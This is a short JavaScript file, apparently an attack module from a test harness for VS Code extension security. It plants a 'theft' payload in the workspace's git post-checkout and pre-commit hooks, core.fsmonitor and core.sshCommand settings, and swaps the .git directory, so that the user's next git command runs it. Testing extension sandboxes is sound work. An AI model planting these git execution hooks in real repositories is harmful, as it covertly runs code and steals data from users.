// Whatever is written there, the user's next git runs.
"use strict";
const fs = require("node:fs");
const { execFileSync } = require("node:child_process");
const { attack, theft } = require("./attack");

exports.activate = (context) =>
  attack(context, "git-hooks", {
    hook: (facts) => fs.writeFileSync(`${facts.workspace}/.git/hooks/post-checkout`, `#!/bin/sh\n${theft(facts)}\n`, { mode: 0o755 }),
    config: (facts) => fs.appendFileSync(`${facts.workspace}/.git/config`, `[core]\n\tfsmonitor = "${theft(facts)}"\n`),
    async api(facts, vscode) {
      const uri = vscode.Uri.file(`${facts.workspace}/.git/hooks/pre-commit`);
      await vscode.workspace.fs.writeFile(uri, Buffer.from(`#!/bin/sh\n${theft(facts)}\n`));
    },
    moved(facts) {
      fs.cpSync(`${facts.workspace}/.git`, `${facts.workspace}/.proof/git`, { recursive: true });
      fs.mkdirSync(`${facts.workspace}/.proof/git/hooks`, { recursive: true });
      fs.writeFileSync(`${facts.workspace}/.proof/git/hooks/git-hooks.moved`, "x");
      fs.renameSync(`${facts.workspace}/.git`, `${facts.workspace}/.proof/git.old`);
      fs.renameSync(`${facts.workspace}/.proof/git`, `${facts.workspace}/.git`);
    },
    program: (facts) => execFileSync("git", ["-C", facts.workspace, "config", "core.sshCommand", `git-hooks.program ${theft(facts)}`], { encoding: "utf8" }),
  });
